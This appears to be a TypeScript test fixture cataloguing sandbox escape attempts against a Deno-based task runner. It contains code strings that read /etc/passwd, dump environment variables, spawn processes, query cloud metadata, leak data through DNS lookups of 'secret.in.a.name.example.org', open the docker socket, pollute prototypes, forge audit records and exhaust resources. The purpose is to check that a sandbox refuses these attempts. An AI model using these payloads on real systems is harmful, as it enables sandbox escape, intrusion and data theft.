import { readFileSync } from "node:fs";
import { hostname } from "node:os";
import process from "node:process";

/*
 * What a task may try against the machine of its worker. Each piece of code is a task; `main` gets the port of a
 * server on loopback that nobody granted, and escapes by returning anything.
 */

export interface Attempt {
  readonly name: string;
  readonly code: string;
  /** Hosts that the task was granted; REDIRECTOR stands for the port of a server that sends its visitors elsewhere. */
  readonly net?: readonly string[];
}

/** Attempts that come to nothing before they ask for anything, so that there is nothing to be written down. */
export const unseen: readonly string[] = [
  "read /etc/passwd: static import as bytes",
  "read /etc/passwd: dynamic import as bytes",
  "power: npm import",
  "power: ask for permissions",
  "pollution: native bindings",
];

/** Each tries to get at /etc/passwd; what it gets is the task's result. */
const readings: Readonly<Record<string, string>> = {
  "static import as text": `import text from "file:///etc/passwd" with { type: "text" }; export const main = () => text`,
  "static import as bytes": `import bytes from "file:///etc/passwd" with { type: "bytes" }; export const main = () => bytes`,
  "static import as JSON": `import json from "file:///etc/passwd" with { type: "json" }; export const main = () => json`,
  "static import as code": `import "file:///etc/passwd"; export const main = () => "loaded"`,
  "static import through a data module": `import text from 'data:text/javascript,import text from "file:///etc/passwd" with { type: "text" }; export default text'; export const main = () => text`,
  "dynamic import as text": `export const main = async () => (await import("file:///etc/passwd", { with: { type: "text" } })).default`,
  "dynamic import as bytes": `export const main = async () => (await import("file:///etc/passwd", { with: { type: "bytes" } })).default`,
  "dynamic import as JSON": `export const main = async () => (await import("file:///etc/passwd", { with: { type: "json" } })).default`,
  "dynamic import as code": `export const main = async () => { await import("file:///etc/passwd"); return "loaded" }`,
  "a data module that imports it": `export const main = async () => (await import('data:text/javascript,import text from "file:///etc/passwd" with { type: "text" }; export default text')).default`,
  "fetch of a file": `export const main = async () => (await fetch("file:///etc/passwd")).text()`,
  "Deno.readTextFile": `export const main = () => Deno.readTextFile("/etc/passwd")`,
  "Deno.openSync": `export const main = () => { Deno.openSync("/etc/passwd"); return "opened" }`,
  "node:fs": `import { readFileSync } from "node:fs"; export const main = () => readFileSync("/etc/passwd", "utf8")`,
  require: `import { createRequire } from "node:module"; export const main = () => createRequire("file:///tmp/x.js")("/etc/passwd")`,
  "a worker from a file": `export const main = () => new Promise((done, fail) => {
    const worker = new Worker("file:///etc/passwd", { type: "module" });
    worker.onerror = (event) => { event.preventDefault(); fail(new Error(event.message)) };
    worker.onmessage = (event) => done(event.data) })`,
  "a worker that imports it": `export const main = () => new Promise((done, fail) => {
    const code = 'import text from "file:///etc/passwd" with { type: "text" }; postMessage(text)';
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })), { type: "module" });
    worker.onerror = (event) => { event.preventDefault(); fail(new Error(event.message)) };
    worker.onmessage = (event) => done(event.data) })`,
  "a worker that asks for permissions": `export const main = () => new Promise((done, fail) => {
    const code = 'postMessage(Deno.readTextFileSync("/etc/passwd"))';
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })),
      { type: "module", deno: { permissions: { read: true } } });
    worker.onerror = (event) => { event.preventDefault(); fail(new Error(event.message)) };
    worker.onmessage = (event) => done(event.data) })`,
  "import through import.meta.resolve": `export const main = async () => (await import(import.meta.resolve("file:///etc/passwd"), { with: { type: "text" } })).default`,
  "the root of a process": `export const main = () => Deno.readTextFileSync("/proc/self/root/etc/passwd")`,
  "a path with links and dots": `export const main = () => Deno.readTextFileSync("/tmp/../proc/self/cwd/../../../../etc/passwd")`,
  "a link to it": `export const main = () => Deno.readLinkSync("/proc/self/root")`,
  "its real path": `export const main = () => Deno.realPathSync("/proc/self/root/etc/passwd")`,
  "a hard link": `import { linkSync } from "node:fs"; export const main = () => { linkSync("/etc/passwd", "/tmp/musketeers-hard"); return "linked" }`,
  symlink: `export const main = () => { Deno.symlinkSync("/etc/passwd", "/tmp/musketeers-link"); return "linked" }`,
};

/** Each tries something else that it must not; a result is an escape. */
const powers: Readonly<Record<string, string>> = {
  "environment through Deno": "export const main = () => Deno.env.toObject()",
  "environment through process": `import process from "node:process"; export const main = () => { if (process.env.PATH === undefined) throw new Error("empty"); return process.env.PATH }`,
  "host name": "export const main = () => Deno.hostname()",
  "node:os": `import os from "node:os"; export const main = () => os.hostname() + os.userInfo().username`,
  "network interfaces": "export const main = () => Deno.networkInterfaces()",
  subprocess: `export const main = async () => (await new Deno.Command("/bin/true").output()).code`,
  "subprocess through node": `import { execFileSync } from "node:child_process"; export const main = () => String(execFileSync("/bin/id"))`,
  "foreign functions": `export const main = () => { Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {}); return "opened" }`,
  "write a file": `export const main = () => { Deno.writeTextFileSync("/tmp/musketeers-escape", "x"); return "written" }`,
  "kill the parent": `import process from "node:process"; export const main = () => process.kill(${process.pid}, 0)`,
  "kill through Deno": `export const main = () => { Deno.kill(${process.pid}, "SIGTERM"); return "killed" }`,
  "listen on a port": `export const main = () => { Deno.listen({ port: 0 }); return "listens" }`,
  "remote import": `export const main = async () => { await import("https://deno.land/std/version.ts"); return "loaded" }`,
  "npm import": `export const main = async () => { await import("npm:left-pad"); return "loaded" }`,
  "ask for permissions": `export const main = async () => {
    const { state } = await Deno.permissions.request({ name: "read" });
    if (state !== "granted") throw new Error(state);
    return state }`,
  inspector: `import inspector from "node:inspector"; export const main = () => { inspector.open(0); return "open" }`,
};

/** Code in a worker of its own, which says what it got. */
const inWorker = (code: string, options = '{ type: "module" }'): string =>
  `export const main = (port) => new Promise((done, fail) => {
    const code = ${JSON.stringify(code)}.replaceAll("PORT", port);
    const worker = new Worker("data:text/javascript," + encodeURIComponent(code), ${options});
    worker.onerror = (event) => { event.preventDefault(); fail(new Error(event.message)) };
    worker.onmessage = (event) => done(event.data) })`;

/** A task that fetches; PORT stands for the server's. */
function fetching(url: string): string {
  return `export const main = async (port) => (await fetch(${JSON.stringify(url)}.replace("PORT", port))).text()`;
}

function hosts(): string {
  try {
    return readFileSync("/etc/hosts", "utf8");
  } catch {
    return "";
  }
}

/** Each tries to reach the server on loopback, or another address that is not public, under the grants that it is given. */
const connections: readonly Attempt[] = [
  { name: "fetch without a grant", code: fetching("http://127.0.0.1:PORT/") },
  {
    name: "fetch of another loopback address than the granted one",
    net: ["127.0.0.1:1"],
    code: fetching("http://127.0.0.2:PORT/"),
  },
  ...[
    "127.0.0.1",
    "localhost",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "0.0.0.0",
    "0x7f.1",
    "2130706433",
    "127.1",
    "localhost.",
  ].map((host) => ({
    name: `fetch of ${host} under a grant of everything`,
    net: ["*"],
    code: fetching(`http://${host}:PORT/`),
  })),
  {
    name: "fetch of the machine's metadata",
    net: ["*"],
    code: fetching("http://169.254.169.254/latest/meta-data/"),
  },
  ...["127.0.0.1:PORT", "localhost:PORT", "[::1]:PORT", "127.0.0.2:PORT", "10.0.0.1", "169.254.169.254"].map(
    (to) => ({
      name: `a redirect from a granted host to ${to}`,
      net: ["127.0.0.1:REDIRECTOR"],
      code: fetching(`http://127.0.0.1:REDIRECTOR/${to}`),
    }),
  ),
  // Which name that is differs; where the machine's own is not in its list there is none to try.
  ...(hosts().includes(hostname()) ? [hostname()] : []).map((name) => ({
    name: "a granted name that leads to this machine",
    net: [name],
    code: `export const main = async (port) => { await Deno.connect({ hostname: "${name}", port }); return "connected" }`,
  })),
  {
    name: "a question to a name server",
    net: ["example.org"],
    code: `export const main = async () => Deno.resolveDns("secret.in.a.name.example.org", "TXT")`,
  },
  {
    name: "a question through node:dns",
    net: ["example.org"],
    code: `import dns from "node:dns/promises"; export const main = () => dns.resolve4("secret.in.a.name.example.org")`,
  },
  {
    name: "a socket to loopback",
    net: ["*"],
    code: `export const main = async (port) => { await Deno.connect({ hostname: "127.0.0.1", port }); return "connected" }`,
  },
  {
    name: "a socket through node:net",
    net: ["*"],
    code: `import net from "node:net"; export const main = (port) => new Promise((done, fail) =>
    net.connect(port, "127.0.0.1").once("connect", () => done("connected")).once("error", fail))`,
  },
  {
    name: "a WebSocket to loopback",
    net: ["*"],
    code: `export const main = (port) => new Promise((done, fail) => {
    const socket = new WebSocket("ws://127.0.0.1:" + port);
    socket.onopen = () => done("open"); socket.onerror = (event) => fail(new Error(event.message ?? "error")) })`,
  },
  {
    name: "an HTTP client with another proxy",
    net: ["*"],
    code: `export const main = async (port) => {
    const client = Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:" + port } });
    return (await fetch("http://example.org/", { client })).text() }`,
  },
  {
    name: "a datagram to loopback",
    net: ["*"],
    code: `import dgram from "node:dgram"; export const main = (port) => new Promise((done, fail) => {
    const socket = dgram.createSocket("udp4"); socket.on("error", fail);
    socket.send("x", port, "127.0.0.1", (error) => error ? fail(error) : done("sent")) })`,
  },
  {
    name: "a socket of the system",
    net: ["*"],
    code: `export const main = async () => { await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }); return "connected" }`,
  },
  {
    name: "a worker with the network",
    net: [],
    code: inWorker(
      "fetch('http://127.0.0.1:PORT/').then((r) => r.text()).then(postMessage)",
      '{ type: "module", deno: { permissions: { net: true } } }',
    ),
  },
  {
    name: "a worker that inherits",
    net: [],
    code: inWorker(
      "fetch('http://127.0.0.1:PORT/').then((r) => r.text()).then(postMessage)",
      '{ type: "module", deno: { permissions: "inherit" } }',
    ),
  },
];

/** Each bends what the sandbox's own code stands on, and then tries again what was refused. */
const pollutions: Readonly<Record<string, string>> = {
  "permissions through prototypes": `export const main = () => {
    Object.prototype.read = true; Object.prototype.permissions = "inherit"; Object.prototype.state = "granted";
    return Deno.readTextFileSync("/etc/passwd") }`,
  "a thenable that asks": `export const main = () => ({ then(done) { done(Deno.readTextFileSync("/etc/passwd")) } })`,
  "getters of a result": `export const main = () => ({ get text() { return Deno.readTextFileSync("/etc/passwd") } })`,
  "patched encoders": `export const main = () => {
    const encode = TextEncoder.prototype.encode;
    TextEncoder.prototype.encode = function (text) { return encode.call(this, Deno.readTextFileSync("/etc/passwd") + text) };
    return Deno.readTextFileSync("/etc/passwd") }`,
  "every operation of Deno's core": `export const main = () => {
    const { ops } = Deno[Deno.internal].core;
    const found = [];
    for (const name of Object.keys(ops)) {
      // Some wait, for input or for a debugger.
      if (!/read|open|load|stat|env|source|resolve|fetch|exec|require/i.test(name) || /^op_read|stdin|tty|break/.test(name)) continue;
      for (const args of [["/etc/passwd"], ["file:///etc/passwd"], ["/etc/passwd", {}], ["/etc/passwd", "utf8"], ["/etc", "/etc/passwd"]]) {
        try {
          const got = ops[name](...args);
          const text = typeof got === "string" ? got : got instanceof Uint8Array ? new TextDecoder().decode(got) : JSON.stringify(got);
          if (text.includes("root:x:0:0")) found.push(name);
        } catch {}
      }
    }
    if (found.length === 0) throw new Error(Object.keys(ops).length + " operations gave nothing");
    return found }`,
  "functions from an inner realm": `import vm from "node:vm"; export const main = () => {
    const outer = vm.runInNewContext("this.constructor.constructor('return globalThis')()");
    const own = outer.Deno ?? globalThis.Deno;
    return own.readTextFileSync("/etc/passwd") }`,
  "native bindings": `import process from "node:process"; export const main = () => process.binding("fs").internalModuleReadJSON("/etc/passwd")`,
  "patched promises": `export const main = async () => {
    const then = Promise.prototype.then;
    Promise.prototype.then = function (...args) { globalThis.got ??= []; globalThis.got.push(this); return then.apply(this, args) };
    await null;
    return Deno.readTextFileSync("/etc/passwd") }`,
  "patched collections": `export const main = () => {
    for (const type of [Map, Set, Array, Uint8Array]) for (const name of Object.getOwnPropertyNames(type.prototype)) {
      const own = Object.getOwnPropertyDescriptor(type.prototype, name);
      if (typeof own.value !== "function" || name === "constructor") continue;
      const before = own.value;
      type.prototype[name] = function (...args) { globalThis.host ??= this; return before.apply(this, args) };
    }
    return Deno.readTextFileSync("/etc/passwd") }`,
  "patched JSON and functions": `export const main = () => {
    JSON.parse = () => ({ permission: "none" }); JSON.stringify = () => "";
    Function.prototype.call = function () { return "root" }; Array.prototype[Symbol.iterator] = function* () {};
    return Deno.readTextFileSync("/etc/passwd") }`,
  "a hidden denial": `export const main = () => {
    try { Deno.readTextFileSync("/etc/passwd") } catch { throw new Error("nothing was denied") } }`,
  "the record of denials": `import { writeSync } from "node:fs"; export const main = () => {
    for (const path of ["/sandbox/audit", "/dev/fd/3", "/proc/self/fd/3"]) try { Deno.writeTextFileSync(path, "x"); return path } catch {}
    for (let fd = 3; fd < 40; fd++) try { writeSync(fd, '{"v":1,"permission":"net","value":"forged"}\\n') } catch {}
    return Deno.readTextFileSync("/etc/passwd") }`,
  "modules of WASI": `import { WASI } from "node:wasi"; export const main = () => {
    new WASI({ version: "preview1", preopens: { "/": "/" } }); return "opened" }`,
};

/** Each takes what others need: it must be ended, and return nothing. */
const exhaustions: Readonly<Record<string, string>> = {
  "an endless loop": "export const main = () => { for (;;); }",
  "an endless loop of microtasks": "export const main = async () => { for (;;) await null; }",
  "an endless chain of promises":
    "export const main = () => new Promise(() => { const turn = () => Promise.resolve().then(turn); turn() })",
  "buffers outside of the heap": `export const main = () => { const kept = [];
    for (;;) kept.push(new Uint8Array(32 << 20).fill(1)); }`,
  "a shared buffer that grows": `export const main = () => { const kept = [];
    for (;;) { const shared = new SharedArrayBuffer(1, { maxByteLength: 64 << 20 }); shared.grow(64 << 20);
      new Uint8Array(shared).fill(1); kept.push(shared) } }`,
  "a shared memory of WebAssembly": `export const main = () => { const kept = [];
    for (;;) { const memory = new WebAssembly.Memory({ initial: 1, maximum: 1024, shared: true }); memory.grow(1023);
      new Uint8Array(memory.buffer).fill(1); kept.push(memory) } }`,
  "a string that doubles": `export const main = () => { let text = "x".repeat(1000); const kept = [];
    for (;;) { kept.push(text = (text + text).slice(0, 1 << 28) + kept.length); new TextEncoder().encode(text) } }`,
  "workers without end": `export const main = async () => { const kept = [];
    for (;;) { kept.push(new Worker("data:text/javascript,for(;;);", { type: "module" })); await null } }`,
  "a flood of output": `export const main = () => { const junk = new Uint8Array(1 << 20); for (;;) Deno.stdout.writeSync(junk) }`,
};

/** A frame of the sandbox's own protocol, as a task may write it: its length, its kind, its payload. */
const frame = (kind: number, bytes: string, length = "payload.length + 1"): string =>
  `export const main = () => {
    const payload = new Uint8Array(${bytes});
    const frame = new Uint8Array(5 + payload.length);
    new DataView(frame.buffer).setUint32(0, ${length}, true);
    frame[4] = ${kind};
    frame.set(payload, 5);
    Deno.stdout.writeSync(frame);
    for (;;); }`;

/** Each speaks in the name of its sandbox; the agent must end it, and believe nothing. */
const frames: Readonly<Record<string, string>> = {
  "more results than there are records": frame(17, "[9,0,0,0, 0,0,0,0,0,0,0,0, 0, 0,0,0,0, 0,0,0,0]"),
  "results that do not fit their count": frame(17, "[1,0,0,0, 0,0,0,0,0,0,0,0, 0, 0,0,0,0, 3,1]"),
  "empty results": frame(17, "[0,0,0,0, 0,0,0,0,0,0,0,0, 0, 0,0,0,0]"),
  "results that are cut off": frame(17, "[1,0]"),
  "failures beyond the records": frame(17, "[1,0,0,0, 0,0,0,0,0,0,0,0, 0, 200,0,0,0, 1,1]"),
  "a frame of 4 GB": frame(17, "[1]", "0xffffffff"),
  "a frame of no length": frame(17, "[]", "0"),
  "a frame of the agent's kind": frame(2, "[1,0,0,0,0,1,1]"),
  "a frame of an unknown kind": frame(99, "[1,2,3]"),
  "a piece of a record that never ends": frame(20, "[255,255,255,255,255,255,255,127, 1,2,3]"),
  "a state that is a reference": frame(19, "[0xd8, 42, 0x40]"),
};

const named = (group: string, codes: Readonly<Record<string, string>>): Attempt[] =>
  Object.entries(codes).map(([name, code]) => ({ name: `${group}: ${name}`, code }));

export const attempts: readonly Attempt[] = [
  ...named("read /etc/passwd", readings),
  ...named("power", powers),
  ...named("pollution", pollutions),
  ...named("exhaustion", exhaustions),
  ...named("frame", frames),
  ...connections.map((attempt) => ({ ...attempt, name: `network: ${attempt.name}` })),
];
